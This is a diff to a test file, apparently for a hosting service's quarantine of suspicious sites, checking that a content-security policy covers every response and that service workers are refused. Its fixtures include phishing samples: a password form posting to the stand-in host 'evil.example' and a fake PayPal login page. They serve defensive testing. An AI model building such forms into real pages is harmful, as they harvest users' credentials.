@@ -10,13 +10,13 @@ beforeAll(async () => {
 });
 afterAll(() => server[Symbol.asyncDispose]());
 
-const POLICY = "form-action 'self'";
+const POLICY = "default-src 'self' 'unsafe-inline' 'unsafe-eval' data: blob:; form-action 'self'";
 const PHISHING = {
   "index.html": "<title>Hi</title>",
   "docs/login.html": `<form action="//evil.example"><input type=password></form>`,
 };
 const suspicious = (text: string): Contents => ({
-  "index.html": `<!doctype html><title>PayPal ${text}</title><form><input type=password></form>`,
+  "index.html": `<!doctype html><title>PayPal – ${text}</title><form><input type=password></form>`,
   "about.html": "<title>About</title>",
   "404.html": "<title>Lost</title>",
   "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body/></html>`,
@@ -107,18 +107,51 @@ describe("a suspicious anonymous site is quarantined", () => {
     expect(JSON.stringify({ ...site, warnings: [] })).not.toContain("quarantine");
   });
 
-  test("every HTML, XHTML and SVG answer has the policy, on version hosts too; nothing else has", async () => {
+  test("every answer has the policy, on version hosts too: also a text, which a frame makes a page of", async () => {
     const site = await server.deploy(suspicious("b"));
     const version = `${site.version_id}--${site.slug}`;
     for (const host of [site.slug, version]) {
-      for (const path of ["/", "/index.html", "/about", "/sub/", "/page.xhtml", "/icon.svg", "/missing"]) {
+      for (const path of [
+        "/",
+        "/index.html",
+        "/about",
+        "/sub/",
+        "/page.xhtml",
+        "/icon.svg",
+        "/style.css",
+        "/missing",
+      ]) {
         expect([host, path, await csp(host, path)]).toEqual([host, path, POLICY]);
       }
-      expect(await csp(host, "/style.css")).toBeNull();
+      expect(await csp(host, "/", { method: "POST" })).toStartWith("default-src");
+      expect(await csp(host, "/", { headers: { "if-match": '"x"' } })).toStartWith("default-src");
     }
     expect(await csp(site.slug, "/", { method: "HEAD" })).toBe(POLICY);
     expect(await csp(site.slug, "/", { headers: { "accept-encoding": "br" } })).toBe(POLICY);
     expect(await csp(site.slug, "/", { headers: { range: "bytes=0-3", "accept-encoding": "identity" } })).toBe(POLICY);
+  });
+
+  test("what the service keeps for itself on the host has a policy too", async () => {
+    const site = await server.deploy({ ...suspicious("own"), "404.html": "" });
+    for (const path of ["/_svc/c.js", "/_svc/nothing", "/_svc/comments/me", "/_svc/comments/view?page=/"]) {
+      for (const accept of ["text/html", "*/*"]) {
+        expect([path, accept, await csp(site.slug, path, { headers: { accept } })]).toEqual([
+          ...[path, accept],
+          expect.stringContaining("default-src"),
+        ]);
+      }
+    }
+  });
+
+  test("a service worker is refused, and its script is there for all else", async () => {
+    const site = await server.deploy({ ...suspicious("worker"), "sw.js": "onfetch = () => {}" });
+    const worker = { headers: { "service-worker": "script" } };
+    for (const again of [1, 2]) {
+      expect([again, (await server.site(site.slug, "/sw.js")).status]).toEqual([again, 200]);
+      expect([again, (await server.site(site.slug, "/sw.js", worker)).status]).toEqual([again, 404]);
+    }
+    await operator("clear", site.slug);
+    expect((await server.site(site.slug, "/sw.js", worker)).status).toBe(200);
   });
 
   test("a page that a browser kept from before gets the policy with its 304", async () => {
